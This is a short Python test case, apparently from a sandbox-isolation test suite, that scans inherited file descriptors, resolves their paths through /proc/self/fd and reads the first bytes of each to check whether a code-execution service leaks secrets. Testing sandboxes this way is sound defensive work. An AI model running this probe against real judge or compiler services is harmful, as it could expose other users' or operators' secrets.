# id = "files-inherited-fds"
# title = "use a descriptor that the service left open"
# guarantee = "secrets"
# layers = ["agent"]
# source = ["go-judge v0.9.5-v1.1.4", "compiler-explorer#6026"]
# needs = ["service-fd"]
# limits = { cpu_time = 20.0, wall_time = 30.0 }
# bare = "user"
import fcntl
import os

from attack import Tally

tally = Tally()
for fd in range(3, 65536):
    try:
        fcntl.fcntl(fd, fcntl.F_GETFD)
    except OSError:
        continue
    tally.through.append("descriptor %d" % fd)
    try:
        tally.through.append(os.readlink("/proc/self/fd/%d" % fd))
    except OSError:
        pass
    try:
        print("READ", os.pread(fd, 200, 0))
    except OSError:
        pass
tally.finish()
